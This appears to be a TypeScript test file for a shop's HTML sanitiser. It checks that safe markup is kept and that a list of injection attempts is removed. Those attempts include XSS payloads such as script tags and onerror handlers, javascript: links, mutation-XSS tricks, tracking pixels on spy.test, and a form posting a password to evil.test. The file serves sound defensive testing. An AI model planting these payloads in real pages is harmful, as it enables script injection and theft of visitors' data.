// What rich text may hold.
import t from 'tap'
import { cleanHtml } from '../../src/shop/html.ts'

t.test('text with structure, links and the shop’s own pictures stays as it is', async (t) => {
  for (const html of [
    '',
    '<h2>Care</h2><p>Wash <strong>cold</strong>, <em>dry</em> flat.<br />Then iron.</p>',
    '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
    '<blockquote><p>Said.</p></blockquote><hr />',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<p><a href="/pages/care" title="Care">care</a> <a href="mailto:a@b.test">mail</a></p>',
    '<p>1 &lt; 2 &amp; 3</p>',
  ])
    t.equal(cleanHtml(html), html)
  t.equal(
    cleanHtml('<img src="/media/a.webp" alt="A" width="3" height="4">'),
    '<img src="/media/a.webp" alt="A" width="3" height="4" loading="lazy" />',
  )
  t.equal(
    cleanHtml('<a href="https://a.test" rel="opener" target="_blank">x</a>'),
    '<a href="https://a.test" rel="noopener nofollow">x</a>',
  )
})

t.test('nothing that runs, frames, styles or calls home comes through', async (t) => {
  const attempts = [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.test></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://spy.test/pixel.gif">',
    '<img src="//spy.test/pixel.gif">',
    '<img src="/media/../../x" srcset="https://spy.test/x 2x">',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mi><style><img onerror=alert(1) src=x>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jaVa\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.test">x</a>',
    '<p style="background:url(https://spy.test)" class="x" id="y" onclick="alert(1)">x</p>',
    '<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x"><base href="//evil.test">',
    '<form action="https://evil.test"><input name=password><button formaction="javascript:x">x</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.test"><link rel=stylesheet href=//evil.test>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
    '</p></div></main><script>alert(1)</script>',
    '<template><script>alert(1)</script></template>',
    '<textarea><script>alert(1)</script></textarea>',
  ]
  for (const attempt of attempts) {
    const clean = cleanHtml(attempt)
    t.notMatch(
      clean,
      /<(script|svg|math|style|iframe|object|embed|form|input|meta|link|base|template|noscript)\b/i,
      attempt,
    )
    t.notMatch(clean, /\s(on\w+|style|srcset|class|id)\s*=/i)
    t.notMatch(clean, /(href|src)="(?!\/(?!\/)|mailto:|https?:)/i)
    t.notMatch(clean, /<img/)
    t.equal(cleanHtml(clean), clean, 'cleaning twice changes nothing more')
  }
})

t.test('very deep and very long text is cut down, not choked on', async (t) => {
  const deep = cleanHtml(`${'<ul><li>'.repeat(5000)}x${'</li></ul>'.repeat(5000)}`)
  t.ok(deep.split('<li>').length <= 50)
  t.equal(cleanHtml(`<p>${'a'.repeat(200_000)}</p>`).length, 200_007)
})
